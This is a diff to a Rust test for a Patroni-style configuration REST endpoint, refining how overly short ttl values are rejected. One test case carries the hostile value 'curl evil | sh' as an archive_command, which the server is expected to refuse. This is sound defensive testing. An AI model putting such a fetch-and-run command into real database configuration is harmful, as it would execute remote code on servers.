@@ -107,7 +107,11 @@ async fn patch_and_put_config_as_patroni() {
             json!({"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}),
             "postgresql.parameters.archive_command: runs a command",
         ),
-        (json!({"ttl": 1}), "too short for member node1's Raft timings"),
+        // Patroni's rule passes (loop_wait + 2 × retry_timeout < ttl): the Raft floor refuses.
+        (
+            json!({"ttl": 1, "loop_wait": 0.2, "retry_timeout": 0.2}),
+            "ttl: 1 s is too short for member node1's Raft timings",
+        ),
         (json!({"loop_wait": "soon"}), "loop_wait"),
     ];
     for (patch, why) in refusals {
@@ -140,7 +144,7 @@ async fn patch_and_put_config_as_patroni() {
     )
     .await;
     let mut bad = whole.clone();
-    bad["ttl"] = json!(1);
+    (bad["ttl"], bad["loop_wait"], bad["retry_timeout"]) = (json!(1), json!(0.2), json!(0.2));
     let (status, body) = http_call(rest, "PUT", "/config", ADMIN, &bad.to_string()).await;
     assert_eq!(status, 400, "{body}");
     assert!(
